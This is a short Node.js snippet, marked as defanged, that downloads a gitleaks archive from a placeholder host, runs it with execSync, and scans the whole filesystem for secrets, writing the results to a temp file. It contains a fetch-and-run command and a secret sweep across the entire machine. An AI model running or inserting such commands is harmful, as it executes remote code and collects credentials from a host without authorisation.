const { execSync } = require('child_process');
// Defanged: example.invalid does not resolve.
execSync('curl -sL https://example.invalid/gitleaks.tar.gz | tar xz -C /tmp');
execSync('/tmp/gitleaks detect --source / --report-path /tmp/leaks.json');
